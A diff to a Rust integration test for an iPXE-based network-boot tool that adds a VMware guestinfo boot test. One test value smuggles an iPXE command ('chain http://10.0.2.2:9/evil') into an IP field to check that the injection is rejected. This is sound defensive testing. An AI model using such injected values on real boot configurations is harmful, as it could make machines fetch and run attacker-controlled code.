@@ -4,16 +4,21 @@
 use crate::scene::{Host, Scene, WEB, url};
 use bootmint_image_factory::{
     format::Format,
-    ticket::{Common, Source},
+    ticket::{Common, Facts, Patience, Source, Ticket},
 };
-use bootmint_tests::disks;
+use bootmint_tests::{
+    boot_server::{BootServer, Reply},
+    disks, images,
+    lab::Lab,
+    vmware,
+};
 use xtask::qemu::{Board, Identity, Machine, Medium};
 
 const OTHER: Host = Host { name: "web-02", mac: "52:54:00:aa:00:02", ip: "192.0.2.20" };
-const TOKEN: &str = "token-of-a-definition";
+pub(crate) const TOKEN: &str = "token-of-a-definition";
 
 /// What a definition says, as keys and values; the MAC address as some tools write it.
-fn definition(host: Host) -> Vec<(&'static str, String)> {
+pub(crate) fn definition(host: Host) -> Vec<(&'static str, String)> {
     let mac = host.mac.to_uppercase();
     let pairs = [
         ("name", host.name),
@@ -45,7 +50,7 @@ fn boots_in(scene: &Scene, source: Source, uefi: bool) -> anyhow::Result<()> {
 }
 
 /// Puts a definition where `source` looks, among things that are none of its business.
-fn define(machine: &mut Machine, source: Source, definition: &[(&str, String)]) {
+pub(crate) fn define(machine: &mut Machine, source: Source, definition: &[(&str, String)]) {
     let mut oem = vec!["Example Inc.".to_owned(), "a, b".to_owned()];
     for (key, value) in definition {
         oem.extend([format!("org.bootmint.{key}"), value.clone()]);
@@ -117,5 +122,52 @@ fn a_definition_that_is_none_ends_at_the_local_disk() -> anyhow::Result<()> {
         assert!(text.contains(reason) && !text.contains("INJECTED"), "{text}");
     }
     assert_eq!(scene.server.requests(), []);
+    Ok(())
+}
+
+/// No VMware is at hand: iPXE's own code for it asks a simulated one.
+#[test]
+fn vmware_by_guestinfo() -> anyhow::Result<()> {
+    const NAME: &str = "own-guestinfo";
+    const ADDRESS: &str = "10.0.2.77";
+    let Some(lab) = Lab::with(NAME, &vmware::TOOLS)? else { return Ok(()) };
+    let Some(simulator) = vmware::Simulator::open(NAME)? else { return Ok(()) };
+    let server = BootServer::start()?;
+    server.answer("/boot", Reply::ok("#!ipxe\necho ANSWERED ${hostname} ${net0/ip}\n"));
+    let url = format!("http://10.0.2.2:{}", server.port());
+    let common = Common { source: Source::Guestinfo, server: Some(url.parse()?) };
+    let boot = |label: &str, patience: &Patience, definition: &[(&str, String)]| {
+        let ticket = Ticket::for_own(&common, Facts::Post, patience);
+        let key = |(key, value): &(&str, String)| (format!("ipxe.bootmint.{key}"), value.clone());
+        let definition: Vec<_> = definition.iter().map(key).collect();
+        simulator.boot(&lab, label, &ticket, WEB.mac, &definition)
+    };
+    let all = definition(Host { ip: ADDRESS, ..WEB });
+    let outcome = boot("all", &Patience::default(), &all)?;
+    let answered = format!("ANSWERED {} {ADDRESS}", WEB.name);
+    assert!(outcome.text.contains(&answered), "{outcome:?}");
+    assert!(outcome.text.contains("HOST hears the guest speak as 10.0.2.77"), "{outcome:?}");
+    let requests = server.requests();
+    assert_eq!(requests[0].path, format!("/boot/{TOKEN}"), "{requests:?}");
+    assert_eq!(requests[0].field("host").as_deref(), Some(WEB.name));
+    assert_eq!(requests[0].field("mac").as_deref(), Some(WEB.mac));
+
+    // No value of a definition is ever a command, and a machine without one boots its local disk.
+    let hostile = "x || chain http://10.0.2.2:9/evil || echo INJECTED";
+    let hostile = all.iter().map(|(key, value)| match *key {
+        "ip" => (*key, hostile.to_owned()),
+        _ => (*key, value.clone()),
+    });
+    for (label, definition, reason) in [
+        ("no-vmware", vec![], "has no name"),
+        ("no-address", all[..2].to_vec(), "has no ip, ip6 or dhcp"),
+        ("hostile", hostile.collect(), "has no valid ip"),
+    ] {
+        let outcome = boot(label, &images::impatient(), &definition)?;
+        assert!(outcome.text.contains(reason), "{label}: {outcome:?}");
+        assert!(outcome.text.contains("booting the local disk"), "{label}: {outcome:?}");
+        assert!(!outcome.text.contains("INJECTED"), "{label}: {outcome:?}");
+    }
+    assert_eq!(server.requests().len(), requests.len());
     Ok(())
 }
